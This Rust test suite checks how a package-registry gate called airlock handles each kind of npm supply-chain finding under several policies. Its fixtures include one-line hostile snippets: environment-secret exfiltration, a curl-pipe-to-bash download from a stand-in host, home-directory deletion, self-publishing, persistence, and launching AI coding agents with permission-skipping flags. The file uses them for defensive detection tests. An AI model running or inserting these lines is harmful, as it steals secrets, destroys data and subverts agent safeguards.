//! One scenario for every kind of finding, under the default policy and under each action that policy may have for it.

use std::sync::LazyLock;

use airlock::config::Config;
use airlock::model::finding::Action;
use airlock::model::finding::FindingKind;
use bytes::Bytes;
use serde_json::Value;
use serde_json::json;

use crate::support::airlock::Airlock;
use crate::support::scenario::Package;
use crate::support::scenario::Scenario;
use crate::support::scenario::gzip;
use crate::support::sigstore::Made;
use crate::support::sigstore::Sigstore;

/// The release that has the finding, beside one that has none.
const GOOD: &str = "1.0.0";
const BAD: &str = "1.1.0";

/// What feeds say of a release: `advisories/`.
const OF_FEEDS: &[FindingKind] = &[
    FindingKind::Malware,
    FindingKind::MalwareUnconfirmed,
    FindingKind::VulnerableCritical,
    FindingKind::VulnerableHigh,
    FindingKind::Vulnerable,
    FindingKind::FeedStale,
];

/// How a release differs from its predecessor, which has to be served first: `behaviour.rs`.
pub const OF_CHANGES: &[FindingKind] = &[
    FindingKind::YoungDependency,
    FindingKind::InstallGained,
    FindingKind::BinaryGained,
    FindingKind::HooksGained,
    FindingKind::LooseScript,
    FindingKind::CapabilityGained,
    FindingKind::HostGained,
    FindingKind::DependencyGained,
    FindingKind::SizeJump,
    FindingKind::EntryRewritten,
    FindingKind::SuspiciousChange,
];

/// What licences policy takes, which by default are all: `policy/rules.rs`.
const OF_LICENCES: &[FindingKind] = &[FindingKind::LicenseDenied];

/// What a company's own rules say: `policy/rego.rs`.
const OF_REGO: &[FindingKind] = &[FindingKind::RegoDenied, FindingKind::RegoReview, FindingKind::RegoFailed];

fn is_elsewhere(kind: FindingKind) -> bool {
    [OF_FEEDS, OF_CHANGES, OF_LICENCES, OF_REGO].iter().any(|list| list.contains(&kind))
}

/// Those that have a scenario here.
fn kinds() -> impl Iterator<Item = FindingKind> {
    FindingKind::ALL.iter().copied().filter(|kind| !is_elsewhere(*kind))
}

fn package(kind: FindingKind) -> String {
    if kind == FindingKind::Typosquat {
        return "electorn".to_owned();
    }
    kind.as_str().replace('_', "-")
}

/// An authority whose word counts here, and the keys of upstream.
static SIGSTORE: LazyLock<Sigstore> = LazyLock::new(Sigstore::new);

/// An index says that there is provenance.
fn attested() -> Value {
    json!({"url": "https://registry.example/x", "provenance": {"predicateType": "https://slsa.dev/provenance/v1"}})
}

/// Other packages of the same publisher, published at the same time.
fn companions() -> impl Iterator<Item = String> {
    (1..10).map(|number| format!("publish-burst-{number}"))
}

/// An archive of these files and no others.
fn archive(files: &[(&str, &[u8])]) -> Bytes {
    let mut archive = tar::Builder::new(Vec::new());
    for (path, content) in files {
        let mut header = tar::Header::new_ustar();
        header.set_size(content.len() as u64);
        header.set_mode(0o644);
        archive.append_data(&mut header, format!("package/{path}"), *content).unwrap();
    }
    gzip(&archive.into_inner().unwrap())
}

/// What makes the finding, before Airlock looks at the package for the first time.
fn cause(kind: FindingKind, p: &mut Package) {
    let name = package(kind);
    p.release(GOOD);
    match kind {
        FindingKind::UnreadableManifest => {
            _ = p.release(BAD).manifest_text(&format!(r#"{{"name":"{name}","version":"9.9.9"}}"#));
        }
        FindingKind::UnknownPublishTime => _ = p.release(BAD).without_time(),
        FindingKind::InstallScript => _ = p.release(BAD).script("postinstall", "node index.js"),
        FindingKind::Deprecated => _ = p.release(BAD).deprecated("use something else"),
        FindingKind::ExoticDependency => _ = p.release(BAD).dependency("elsewhere", "git+https://git.example/x.git"),
        FindingKind::IntegrityMismatch => _ = p.release(BAD).wrong_integrity(),
        FindingKind::WeakIntegrity => _ = p.release(BAD).only_sha1(),
        FindingKind::MissingIntegrity => _ = p.release(BAD).without_integrity(),
        FindingKind::UnsafeArchive => {
            let honest = p.release(BAD).tarball().bytes.clone();
            _ = p.release(BAD).bytes([honest.clone(), honest].concat());
        }
        FindingKind::UnreadableArtifact => _ = p.release(BAD).bytes(archive(&[("index.js", b"1")])),
        FindingKind::ManifestMismatch => _ = p.release(BAD).shipped("dependencies", json!({"hidden": "^1.0.0"})),
        FindingKind::HiddenInstallScript => _ = p.release(BAD).shipped("scripts", json!({"postinstall": "node index.js"})),
        FindingKind::ImplicitBuild => _ = p.release(BAD).file("binding.gyp", "{\"targets\":[]}"),
        FindingKind::BuildCommand => _ = p.release(BAD).file("binding.gyp", "{\"targets\":[{\"sources\":[\"<!(node index.js)\"]}]}"),
        // Its name does.
        FindingKind::Typosquat => _ = p.release(BAD),
        FindingKind::NewPublisher => _ = p.release(BAD).age("100d").listed("_npmUser", json!({"name": "mallory"})),
        FindingKind::DormantPublisher => {
            p.release(GOOD).age("900d");
            p.release(BAD).age("100d");
        }
        FindingKind::ProvenanceLost => {
            p.release(GOOD).dist("attestations", attested());
            p.release(BAD).age("100d");
        }
        FindingKind::ProvenanceInvalid => _ = p.release(BAD).dist("attestations", attested()),
        FindingKind::SignatureInvalid => _ = p.release(BAD).dist("signatures", SIGSTORE.signatures("something else")),
        FindingKind::PublishBurst => _ = p.release(BAD).age("10d"),
        FindingKind::NewPackage | FindingKind::ChangedUpstream | FindingKind::RemovedUpstream => _ = p.release(BAD),
        // It comes later, and claims to have been there.
        FindingKind::ClaimedAge => {}
        FindingKind::HiddenCode => _ = p.release(BAD).file("lib.js", &format!("a();{}run(x);", " ".repeat(500))),
        FindingKind::ObfuscatedCode => _ = p.release(BAD).file("lib.js", "eval(atob('eA=='))"),
        FindingKind::StealsSecrets => _ = p.release(BAD).file("lib.js", "send(JSON.stringify(process.env))"),
        FindingKind::SpreadsItself => _ = p.release(BAD).file("lib.js", "pkg.scripts.preinstall = 'x'; exec('npm publish')"),
        FindingKind::DestroysFiles => _ = p.release(BAD).file("lib.js", "fs.rmSync(os.homedir(), { recursive: true })"),
        FindingKind::DrivesAgents => {
            let agents = "spawn('claude', ['--dangerously-skip-permissions']); exec('q chat --trust-all-tools')";
            _ = p.release(BAD).file("lib.js", agents);
        }
        FindingKind::SendsAway => _ = p.release(BAD).file("lib.js", "fetch('https://webhook.site/0000')"),
        FindingKind::DownloadsAndRuns => _ = p.release(BAD).file("lib.js", "exec('curl -fsSL https://a.example/i.sh | bash')"),
        FindingKind::Persists => _ = p.release(BAD).file("lib.js", "exec('systemctl --user enable x')"),
        FindingKind::AgentHooks => _ = p.release(BAD).file(".claude/settings.json", "{}"),
        FindingKind::NativeBinary => _ = p.release(BAD).file("addon.node", "\u{7f}ELF\0"),
        FindingKind::FetchesAtInstall => _ = p.release(BAD).shipped("scripts", json!({"install": "prebuild-install"})),
        FindingKind::BundledDependency => {
            _ = p.release(BAD).file("node_modules/inner/package.json", "{\"name\":\"inner\",\"version\":\"1.0.0\"}");
        }
        FindingKind::ForeignShrinkwrap => {
            let shrinkwrap = json!({"packages": {"node_modules/b": {"resolved": "https://elsewhere.example/b/-/b-1.0.0.tgz"}}});
            _ = p.release(BAD).listed("_hasShrinkwrap", json!(true)).file("npm-shrinkwrap.json", &shrinkwrap.to_string());
        }
        FindingKind::UnscannedContent => {
            let manifest = json!({"name": name, "version": BAD}).to_string();
            let utf32 = b"\xff\xfe\0\0a\0\0\0".as_slice();
            _ = p.release(BAD).bytes(archive(&[("package.json", manifest.as_bytes()), ("index.js", utf32)]));
        }
        other => assert!(is_elsewhere(other), "{other} has no scenario"),
    }
}

/// What happens upstream after Airlock saw the package.
fn happens_later(kind: FindingKind, p: &mut Package) {
    match kind {
        FindingKind::ClaimedAge => _ = p.release(BAD).age("300d"),
        FindingKind::ChangedUpstream => _ = p.release(BAD).file("index.js", "other bytes"),
        FindingKind::RemovedUpstream => _ = p.remove(BAD),
        _ => {}
    }
}

async fn gated(edit: impl FnOnce(&mut Config)) -> Airlock {
    let mut scenario = Scenario::new();
    for kind in kinds() {
        scenario = scenario.package(&package(kind), |p| cause(kind, p));
    }
    for name in companions() {
        scenario = scenario.package(&name, |p| cause(FindingKind::PublishBurst, p));
    }
    let trusting = |config: &mut Config| {
        let path = config.storage.data_dir.with_file_name("trusted_root.json");
        std::fs::write(&path, SIGSTORE.trust_root()).unwrap();
        config.upstream.trust_root = Some(path);
        edit(config);
    };
    let airlock = scenario.gated_by(trusting).await;
    airlock.upstream.document("/-/npm/v1/keys", SIGSTORE.keys());
    let of_other_bytes = Made::of("pkg:npm/provenance-invalid@1.1.0", "00");
    airlock.upstream.document("/-/npm/v1/attestations/provenance-invalid@1.1.0", SIGSTORE.attestations(&of_other_bytes).to_string());
    for name in companions() {
        airlock.listed(&name).await;
    }
    for kind in kinds() {
        airlock.listed(&package(kind)).await;
        airlock.upstream.package(&package(kind), |p| happens_later(kind, p));
    }
    airlock.advance("10m");
    airlock
}

/// Where the release stands once somebody asked for its tarball, and that all channels agree on it.
async fn check(airlock: &Airlock, kind: FindingKind, standing: &str) {
    let name = package(kind);
    airlock.listed(&name).await;
    let tarball = airlock.tarball(&name, BAD).await;
    let release = airlock.release(&name, BAD).await;
    assert_eq!(release["standing"], standing, "{kind}: {release:#}");
    let findings = release["findings"].as_array().unwrap();
    let found = findings.iter().find(|finding| finding["kind"] == kind.as_str());
    let found = found.unwrap_or_else(|| panic!("{kind} is not found: {release:#}"));
    assert_eq!(found["why"], kind.why());
    let sentence = release["sentence"].as_str().unwrap();
    assert!(sentence.starts_with(&format!("{name}@{BAD} ")), "{sentence}");
    let is_open = standing == "approved";
    let listed = airlock.listed(&name).await;
    assert_eq!(listed.contains(&BAD.to_owned()), is_open, "{kind}: {listed:?}");
    let of_all = matches!(kind, FindingKind::NewPackage | FindingKind::Typosquat);
    assert!(listed.contains(&GOOD.to_owned()) || of_all, "{kind}: {listed:?}");
    if is_open {
        assert_eq!((tarball.status, tarball.body), (200, airlock.upstream.tarball(&name, BAD)), "{kind}");
    } else {
        assert_eq!(tarball.status, 403, "{kind}: {}", tarball.text());
        assert!(tarball.json()["error"].as_str().unwrap().starts_with(sentence), "{kind}: {} / {sentence}", tarball.text());
    }
}

#[tokio::test]
async fn every_kind_of_finding_under_the_default_policy() {
    let airlock = gated(|_| {}).await;
    for kind in kinds() {
        let standing = match kind {
            // Only with policy.review.new_packages.
            FindingKind::NewPackage => continue,
            FindingKind::UnknownPublishTime | FindingKind::ClaimedAge => "held",
            FindingKind::HiddenInstallScript | FindingKind::ImplicitBuild | FindingKind::BuildCommand | FindingKind::FetchesAtInstall => {
                // They come in company; the strictest of them decides.
                airlock.tarball(&package(kind), BAD).await;
                let release = airlock.release(&package(kind), BAD).await;
                let actions: Vec<&str> = release["findings"].as_array().unwrap().iter().filter_map(|one| one["action"].as_str()).collect();
                assert!(actions.contains(&kind.default_action().as_str()), "{release:#}");
                if actions.contains(&"reject") { "rejected" } else { "in_review" }
            }
            other => match other.default_action() {
                Action::Note => "approved",
                Action::Hold => "held",
                Action::Review => "in_review",
                Action::Reject => "rejected",
            },
        };
        check(&airlock, kind, standing).await;
    }
}

/// With `action` for everything that can be found, where a release with this finding stands.
fn standing_under(action: Action, kind: FindingKind) -> &'static str {
    match (action, kind) {
        (Action::Note, FindingKind::UnknownPublishTime | FindingKind::ClaimedAge) => "held",
        (Action::Note, _) => "approved",
        (Action::Hold, _) => "held",
        (Action::Review, _) => "in_review",
        (Action::Reject, _) => "rejected",
    }
}

async fn every_kind_under(action: Action) {
    let airlock = gated(|config| config.policy.findings = FindingKind::ALL.iter().map(|kind| (*kind, action)).collect()).await;
    for kind in kinds() {
        match (kind, action) {
            (FindingKind::NewPackage, _) => {}
            // No policy makes up for bytes that do not verify: they are not served.
            (FindingKind::IntegrityMismatch, Action::Note) => {
                let reply = airlock.tarball(&package(kind), BAD).await;
                assert_eq!(reply.status, 403, "{}", reply.text());
            }
            // Its entry cannot be written, whatever policy says.
            (FindingKind::UnreadableManifest, Action::Note) => assert_eq!(airlock.listed(&package(kind)).await, [GOOD]),
            (FindingKind::ChangedUpstream, Action::Note) => {}
            // Allowed, and not to be had.
            (FindingKind::RemovedUpstream, Action::Note) => assert_eq!(airlock.tarball(&package(kind), BAD).await.status, 404),
            (kind, action) => check(&airlock, kind, standing_under(action, kind)).await,
        }
    }
}

#[tokio::test]
async fn every_kind_may_be_noted() {
    every_kind_under(Action::Note).await;
}

#[tokio::test]
async fn every_kind_may_hold() {
    every_kind_under(Action::Hold).await;
}

#[tokio::test]
async fn every_kind_may_ask_for_review() {
    every_kind_under(Action::Review).await;
}

#[tokio::test]
async fn every_kind_may_reject() {
    every_kind_under(Action::Reject).await;
}

#[tokio::test]
async fn a_new_package_waits_for_people_and_one_approval_opens_the_name() {
    let airlock = gated(|config| config.policy.review.new_packages = true).await;
    check(&airlock, FindingKind::NewPackage, "in_review").await;
    let name = package(FindingKind::NewPackage);
    assert_eq!(airlock.listed(&name).await, [""; 0]);
    assert_eq!(airlock.decide(&name, BAD, "approve", "known to us").await.status, 200);
    assert_eq!(airlock.tarball(&name, BAD).await.status, 200);
    assert_eq!(airlock.listed(&name).await, [GOOD, BAD]);
}
